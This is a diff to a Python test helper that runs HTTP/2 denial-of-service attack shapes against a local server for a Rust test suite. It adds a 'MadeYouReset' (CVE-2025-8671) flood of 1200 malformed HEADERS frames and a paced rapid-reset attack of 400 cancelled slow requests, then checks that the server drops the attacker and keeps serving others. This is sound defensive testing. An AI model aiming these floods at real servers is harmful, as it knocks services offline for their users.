@@ -1,19 +1,20 @@
 """HTTP/2 attack shapes against a server on 127.0.0.1:PORT (h2c), for tests/http2.rs.
 
-usage: h2_flood.py PORT ATTACK
+usage: h2_flood.py PORT ATTACK [FRESH_PATH]
 Prints one line: what the server did to the attacking connection ("closed", "goaway",
 "reset", "answered:<status>"), then checks that a fresh connection is still served
 ("served"). Exits non-zero if the fresh connection is not served.
 """
-import socket, sys, time
+import os, socket, sys, time
 
 import h2_common
 
 import h2.config, h2.connection, h2.events, h2.settings
-from hyperframe.frame import HeadersFrame, ContinuationFrame, PingFrame, SettingsFrame, RstStreamFrame
+from hyperframe.frame import HeadersFrame, ContinuationFrame, DataFrame, PingFrame, SettingsFrame, RstStreamFrame
 
 PORT = int(sys.argv[1])
 ATTACK = sys.argv[2]
+FRESH = sys.argv[3] if len(sys.argv) > 3 else "/fresh"
 T = 20
 
 
@@ -56,6 +57,31 @@ def outcome(s, c, stream=None, limit=T):
     return "nothing"
 
 
+def raw_outcome(s, limit):
+    """Reads raw frames until GOAWAY ("goaway:<error code>") or the end ("closed")."""
+    buf = b""
+    deadline = time.time() + limit
+    s.settimeout(1)
+    while time.time() < deadline:
+        try:
+            data = s.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionResetError, BrokenPipeError):
+            return "closed"
+        if not data:
+            return "closed"
+        buf += data
+        while len(buf) >= 9:
+            n = int.from_bytes(buf[0:3], "big")
+            if len(buf) < 9 + n:
+                break
+            if buf[3] == 0x7:  # GOAWAY: last stream id, error code
+                return "goaway:%d" % int.from_bytes(buf[9 + 4 : 9 + 8], "big")
+            buf = buf[9 + n :]
+    return "nothing"
+
+
 def send_raw(s, frames):
     try:
         for f in frames:
@@ -67,7 +93,7 @@ def send_raw(s, frames):
 
 def served():
     s, c = connect()
-    c.send_headers(1, req_headers("/fresh"), end_stream=True)
+    c.send_headers(1, req_headers(FRESH), end_stream=True)
     s.sendall(c.data_to_send())
     r = outcome(s, c, 1)
     s.close()
@@ -136,6 +162,71 @@ elif ATTACK == "stream_ids":
     c.send_headers(2**31 - 1, req_headers("/last"), end_stream=True)
     s.sendall(c.data_to_send())
     print(outcome(s, c, 2**31 - 1, 10))
+elif ATTACK == "made_you_reset":
+    # CVE-2025-8671 ("MadeYouReset"): the client makes the server reset its streams (here a
+    # malformed request: END_STREAM with a non-zero content-length, a stream error), which no
+    # limit on the client's own resets sees. The h2 crate counts the resets it sends for the
+    # client's errors (max_local_error_reset_streams, 1024) and ends the connection past that.
+    s.sendall(c.data_to_send())
+    sid = 1
+    ok = True
+    batch = []
+    for i in range(int(os.environ.get("MYR_STREAMS", "1200"))):
+        f = HeadersFrame(sid)
+        f.data = c.encoder.encode(req_headers("/m", [("content-length", "5")]))
+        f.flags.add("END_STREAM")
+        f.flags.add("END_HEADERS")
+        batch.append(f.serialize())
+        sid += 2
+        if len(batch) == 50:
+            ok = send_raw(s, [b"".join(batch)])
+            batch = []
+            if not ok:
+                break
+    if ok and batch:
+        ok = send_raw(s, [b"".join(batch)])
+    # The client library does not know the streams sent above: read the frames here.
+    print(raw_outcome(s, 5) if ok else "closed")
+elif ATTACK == "paced_reset":
+    # Rapid reset paced so that the server takes each stream before its reset arrives (the h2
+    # crate's limit on streams reset while waiting to be taken never trips): every stream asks
+    # for slow work (/sleep/3000) and is cancelled at once, 400 times. The server must stop
+    # taking new work once the connection's cancelled-but-running streams reach its stream
+    # limit, and end the connection (GOAWAY) rather than hand all 400 to the workers.
+    import select
+    sid = 1
+    verdict = None
+    for i in range(400):
+        try:
+            c.send_headers(sid, req_headers("/sleep/3000"), end_stream=True)
+            c.reset_stream(sid)
+            s.sendall(c.data_to_send())
+        except (ConnectionResetError, BrokenPipeError):
+            verdict = "closed"
+            break
+        except Exception:  # the client library refuses new streams after a GOAWAY
+            verdict = "goaway"
+            break
+        sid += 2
+        time.sleep(0.005)
+        while verdict is None and select.select([s], [], [], 0)[0]:
+            try:
+                data = s.recv(65536)
+            except (ConnectionResetError, BrokenPipeError):
+                data = b""
+            if not data:
+                verdict = "closed"
+                break
+            try:
+                events = c.receive_data(data)
+            except Exception:
+                verdict = "closed"
+                break
+            if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
+                verdict = "goaway"
+        if verdict:
+            break
+    print(verdict or "ignored after %d streams" % ((sid - 1) // 2))
 else:
     sys.exit("unknown attack " + ATTACK)
 s.close()
